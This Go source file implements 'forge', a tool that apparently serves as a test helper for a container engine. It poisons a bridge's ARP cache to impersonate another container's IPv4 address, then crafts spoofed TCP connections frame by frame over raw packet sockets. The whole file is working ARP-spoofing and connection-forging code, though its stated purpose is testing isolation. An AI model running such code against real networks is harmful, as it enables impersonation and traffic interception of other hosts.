// Command forge pretends to be another host of its bridge, as a container that
// may make raw packets can (CAP_NET_RAW, held by default): it claims that host's
// IPv4 address by ARP, again and again for as long as it runs, opens TCP connections
// from it frame by frame, sends one line on each that is accepted, and counts what
// comes back. The tests run it
// against the daemon.
//
//	forge -source VICTIM -via NEXT_HOP [-i INTERFACE] [-n COUNT] TARGET:PORT
//
// It prints "sent N accepted N answered N": connections asked for, those that got
// a SYN-ACK, and those that got data.
package main

import (
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"net"
	"net/netip"
	"os"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	var f forger
	name := flag.String("i", "eth0", "the interface to send from")
	source := flag.String("source", "", "the address to pretend to have")
	via := flag.String("via", "", "the next hop to the target, whose ARP is deceived")
	count := flag.Int("n", 1000, "how many connections to try")
	wait := flag.Duration("wait", 3*time.Second, "how long to wait for answers in the end")
	flag.Parse()
	if err := f.open(*name, *source, *via, flag.Arg(0)); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	if err := f.run(*count, *wait); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	fmt.Printf("sent %d accepted %d answered %d\n", *count, len(f.accepted), len(f.answered))
}

const (
	firstPort = 20000 // of the forged connections, one port each
	initial   = 1000  // their initial sequence number

	// claimInterval is how often the address is claimed: its owner, or the engine on
	// its behalf, may claim it back at any time. Engine 29 announces a container's
	// address three times in its first seconds.
	claimInterval = 5 * time.Millisecond

	syn, rst, psh, ack = 0x02, 0x04, 0x08, 0x10

	etherARP, etherIP = 0x0806, 0x0800
)

type forger struct {
	socket             int
	mac, viaMAC        net.HardwareAddr
	source, via        netip.Addr
	target             netip.AddrPort
	count              int
	claimed            time.Time       // when the address was claimed last
	accepted, answered map[uint16]bool // by our port
}

func (f *forger) open(name, source, via, target string) error {
	f.accepted, f.answered = map[uint16]bool{}, map[uint16]bool{}
	ifi, err := net.InterfaceByName(name)
	if err != nil {
		return err
	}
	f.mac = ifi.HardwareAddr
	var errs [3]error
	f.source, errs[0] = netip.ParseAddr(source)
	f.via, errs[1] = netip.ParseAddr(via)
	f.target, errs[2] = netip.ParseAddrPort(target)
	if err := errors.Join(errs[:]...); err != nil {
		return err
	}
	own, err := ownAddr(ifi)
	if err != nil {
		return err
	}
	const all = unix.ETH_P_ALL<<8&0xff00 | unix.ETH_P_ALL>>8 // in network byte order
	if f.socket, err = unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, all); err != nil {
		return os.NewSyscallError("socket", err)
	}
	if err := unix.Bind(f.socket, &unix.SockaddrLinklayer{Protocol: all, Ifindex: ifi.Index}); err != nil {
		return os.NewSyscallError("bind", err)
	}
	tick := unix.NsecToTimeval(int64(time.Millisecond))
	if err := unix.SetsockoptTimeval(f.socket, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tick); err != nil {
		return os.NewSyscallError("setsockopt", err)
	}
	if err := f.resolve(own); err != nil {
		return err
	}
	f.mac = fakeMAC
	return nil
}

// fakeMAC is where the victim is said to be. What is sent there comes to our port,
// and our kernel, whose address it is not, leaves it to us.
var fakeMAC = net.HardwareAddr{0x02, 'f', 'o', 'r', 'g', 'e'}

// ownAddr is the address that we have by right.
func ownAddr(ifi *net.Interface) (netip.Addr, error) {
	addrs, err := ifi.Addrs()
	for _, a := range addrs {
		if p, err := netip.ParsePrefix(a.String()); err == nil && p.Addr().Is4() {
			return p.Addr(), nil
		}
	}
	return netip.Addr{}, errors.Join(err, fmt.Errorf("%s has no IPv4 address", ifi.Name))
}

// resolve asks honestly for the next hop's hardware address.
func (f *forger) resolve(own netip.Addr) error {
	for deadline := time.Now().Add(3 * time.Second); time.Now().Before(deadline); {
		if err := f.sendARP(1, own, broadcast); err != nil {
			return err
		}
		for range 50 {
			frame, err := f.receive()
			if err != nil {
				return err
			}
			if len(frame) >= 42 && binary.BigEndian.Uint16(frame[12:]) == etherARP && netip.AddrFrom4([4]byte(frame[28:32])) == f.via {
				f.viaMAC = net.HardwareAddr(frame[22:28])
				return nil
			}
		}
	}
	return fmt.Errorf("%s does not answer ARP", f.via)
}

var broadcast = net.HardwareAddr{255, 255, 255, 255, 255, 255}

func (f *forger) run(count int, wait time.Duration) error {
	f.count = count
	for i := range count {
		if err := f.claim(); err != nil {
			return err
		}
		if err := f.sendTCP(uint16(firstPort+i), initial, 0, syn, nil); err != nil {
			return err
		}
		if err := f.listen(); err != nil {
			return err
		}
	}
	for deadline := time.Now().Add(wait); time.Now().Before(deadline); {
		if err := errors.Join(f.claim(), f.listen()); err != nil {
			return err
		}
	}
	return nil
}

// claim claims the address, if it is time again. A question makes the next hop learn who
// asks, an answer makes it change what it knows.
func (f *forger) claim() error {
	if time.Since(f.claimed) < claimInterval {
		return nil
	}
	f.claimed = time.Now()
	return errors.Join(f.sendARP(1, f.source, f.viaMAC), f.sendARP(2, f.source, f.viaMAC))
}

// listen takes what has come in and answers it.
func (f *forger) listen() error {
	for {
		frame, err := f.receive()
		if err != nil || frame == nil {
			return err
		}
		if len(frame) < 54 || binary.BigEndian.Uint16(frame[12:]) != etherIP || frame[23] != unix.IPPROTO_TCP {
			continue
		}
		ip := frame[14:]
		header := int(ip[0]&15) * 4
		total := int(binary.BigEndian.Uint16(ip[2:]))
		if total > len(ip) || total < header+20 ||
			netip.AddrFrom4([4]byte(ip[12:16])) != f.target.Addr() || netip.AddrFrom4([4]byte(ip[16:20])) != f.source {
			continue
		}
		tcp := ip[header:total]
		port := binary.BigEndian.Uint16(tcp[2:])
		sequence := binary.BigEndian.Uint32(tcp[4:])
		data := tcp[min(len(tcp), int(tcp[12]>>4)*4):]
		switch flags := tcp[13]; {
		case binary.BigEndian.Uint16(tcp) != f.target.Port():
		case port < firstPort || int(port) >= firstPort+f.count: // a connection of the address's owner
		case flags&(syn|ack) == syn|ack && !f.accepted[port]:
			f.accepted[port] = true
			err = f.sendTCP(port, initial+1, sequence+1, ack|psh, []byte("forged\n"))
		case len(data) > 0:
			f.answered[port] = true
			err = f.sendTCP(port, initial+8, sequence+uint32(len(data)), ack|rst, nil)
		}
		if err != nil {
			return err
		}
	}
}

// receive returns nil when nothing comes within a moment.
func (f *forger) receive() ([]byte, error) {
	buffer := make([]byte, 2048)
	n, _, err := unix.Recvfrom(f.socket, buffer, 0)
	switch {
	case errors.Is(err, unix.EAGAIN), errors.Is(err, unix.EINTR):
		return nil, nil
	case err != nil:
		return nil, os.NewSyscallError("recvfrom", err)
	}
	return buffer[:n], nil
}

func (f *forger) send(to net.HardwareAddr, etherType uint16, packet []byte) error {
	frame := append(append([]byte{}, to...), f.mac...)
	frame = binary.BigEndian.AppendUint16(frame, etherType)
	_, err := unix.Write(f.socket, append(frame, packet...))
	return os.NewSyscallError("send", err)
}

// sendARP says that sender is at our hardware address: in a question for the next
// hop (1) or in an answer to it (2), RFC 826.
func (f *forger) sendARP(operation uint16, sender netip.Addr, to net.HardwareAddr) error {
	packet := binary.BigEndian.AppendUint16([]byte{0, 1, 8, 0, 6, 4}, operation)
	packet = append(append(packet, f.mac...), sender.AsSlice()...)
	packet = append(append(packet, to...), f.via.AsSlice()...)
	return f.send(to, etherARP, packet)
}

// sendTCP sends a segment of the forged connection from port.
func (f *forger) sendTCP(port uint16, sequence, acknowledge uint32, flags byte, data []byte) error {
	tcp := binary.BigEndian.AppendUint16(nil, port)
	tcp = binary.BigEndian.AppendUint16(tcp, f.target.Port())
	tcp = binary.BigEndian.AppendUint32(tcp, sequence)
	tcp = binary.BigEndian.AppendUint32(tcp, acknowledge)
	tcp = append(tcp, 5<<4, flags, 0xff, 0xff, 0, 0, 0, 0)
	tcp = append(tcp, data...)
	pseudo := append(f.source.AsSlice(), f.target.Addr().AsSlice()...)
	pseudo = binary.BigEndian.AppendUint16(append(pseudo, 0, unix.IPPROTO_TCP), uint16(len(tcp)))
	binary.BigEndian.PutUint16(tcp[16:], checksum(append(pseudo, tcp...)))

	ip := binary.BigEndian.AppendUint16([]byte{4<<4 | 5, 0}, uint16(20+len(tcp)))
	ip = append(ip, 0, 0, 0, 0, 64, unix.IPPROTO_TCP, 0, 0)
	ip = append(append(ip, f.source.AsSlice()...), f.target.Addr().AsSlice()...)
	binary.BigEndian.PutUint16(ip[10:], checksum(ip))
	return f.send(f.viaMAC, etherIP, append(ip, tcp...))
}

// checksum is that of RFC 1071.
func checksum(b []byte) uint16 {
	var sum uint32
	for i := 0; i < len(b); i += 2 {
		word := uint32(b[i]) << 8
		if i+1 < len(b) {
			word |= uint32(b[i+1])
		}
		sum += word
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}
